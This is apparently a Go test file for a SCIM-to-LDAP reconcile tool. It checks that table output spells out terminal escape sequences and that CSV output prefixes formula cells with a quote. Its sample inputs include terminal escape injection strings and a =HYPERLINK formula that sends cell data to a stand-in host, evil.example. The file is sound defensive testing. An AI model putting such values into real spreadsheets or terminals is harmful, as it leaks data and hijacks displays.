package reconcile_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/scim2ldap/scim2ldap/reconcile"
)

// The table keeps every finding on its row and sends no control character of
// the directory's to the terminal: a value (or DN) with a line break, a tab or
// an escape sequence (ESC [ … m recolours, ESC ] … sets the window title) is
// shown with them spelt out, in every column and in the removals.
func TestTableShowsControlCharactersSpeltOut(t *testing.T) {
	var out bytes.Buffer
	w, err := reconcile.NewWriter("table", &out)
	if err != nil {
		t.Fatal(err)
	}
	evil := "Eve\x1b[2J\x1b]0;owned\x07\tx\ny\u009b"
	dn := "cn=Eve\x1b[31m,ou=people,dc=example,dc=org"
	if err := w.Finding(reconcile.Finding{Kind: reconcile.Unrenderable, ResourceType: "User", DN: dn, Attribute: "name.formatted", LDAP: "cn",
		Value: evil, Detail: "the value " + evil + " is odd"}); err != nil {
		t.Fatal(err)
	}
	sum := &reconcile.Summary{Scanned: map[string]int{"User": 1}, Counts: map[reconcile.Kind]int{reconcile.Unrenderable: 1},
		Removed: []reconcile.Removal{{DN: dn, Attributes: []string{"member"}, Value: evil}}}
	if err := w.Close(sum); err != nil {
		t.Fatal(err)
	}
	s := out.String()
	for _, r := range s {
		if r != '\n' && (r < 0x20 || r == 0x7f || (r >= 0x80 && r < 0xa0)) {
			t.Fatalf("control character %U in the table:\n%q", r, s)
		}
	}
	lines := strings.Split(strings.TrimSuffix(s, "\n"), "\n")
	if len(lines) != 6 || !strings.Contains(lines[1], `Eve\x1b[2J\x1b]0;owned\a x y\u009b`) || !strings.Contains(lines[4], `cn=Eve\x1b[31m`) {
		t.Errorf("table:\n%s", s)
	}
}

// CSV goes to spreadsheets: a cell the directory's data starts with = + - @,
// a tab or a carriage return would be read as a formula (CWE-1236, OWASP
// "CSV Injection"), so it is written after a single quote; other cells,
// commas, quotes, line breaks and non-ASCII letters included, are written as
// they are (RFC 4180 quoting).
func TestCSVNeverWritesAFormula(t *testing.T) {
	var out bytes.Buffer
	w, err := reconcile.NewWriter("csv", &out)
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "Doe, \"J\"\nÜ"} {
		if err := w.Finding(reconcile.Finding{Kind: reconcile.Unrenderable, ResourceType: "User", DN: "uid=eve,ou=people,dc=example,dc=org",
			Attribute: "name.formatted", LDAP: "cn", Value: v, Detail: "d"}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(&reconcile.Summary{}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{`'=HYPERLINK("http://evil.example/?"&A1,"x")`, "'+1", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "Doe, \"J\"\nÜ"}
	if len(rows) != len(want)+1 {
		t.Fatalf("rows: %q", rows)
	}
	for i, w := range want {
		if rows[i+1][6] != w {
			t.Errorf("row %d: value %q, want %q", i+1, rows[i+1][6], w)
		}
	}
}
